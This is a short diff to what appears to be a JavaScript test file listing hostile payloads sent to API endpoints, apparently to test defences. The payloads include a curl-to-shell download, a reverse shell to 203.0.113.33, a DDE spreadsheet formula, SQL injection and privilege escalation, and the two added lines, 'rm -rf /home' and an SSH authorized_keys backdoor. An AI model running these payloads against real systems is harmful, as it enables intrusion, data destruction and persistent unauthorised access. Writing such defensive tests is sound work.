@@ -275,6 +275,8 @@ describe('what is tried, kept or written about', () => {
     ['/pastes', { body: '; curl http://203.0.113.7/a.sh | sh' }],
     ['/sheets/v4/values:append', { values: ["=cmd|'/c calc'!A1"] }],
     ['/api/cron/save', { glueSource: 'bash -i >& /dev/tcp/203.0.113.33/4444 0>&1' }],
+    ['/api/cron/save', { glueSource: 'rm -rf /home' }],
+    ['/api/cron/save', { glueSource: 'echo k >> ~/.ssh/authorized_keys' }],
     ['/sql/execute', { sql: "UPDATE users SET role='admin' WHERE id=7; UPDATE users SET passwd='x'" }],
     ['/sql/execute', { sql: "1' UNION SELECT password FROM users--" }],
     ['/jobs/42/run', { cmd: 'id' }],
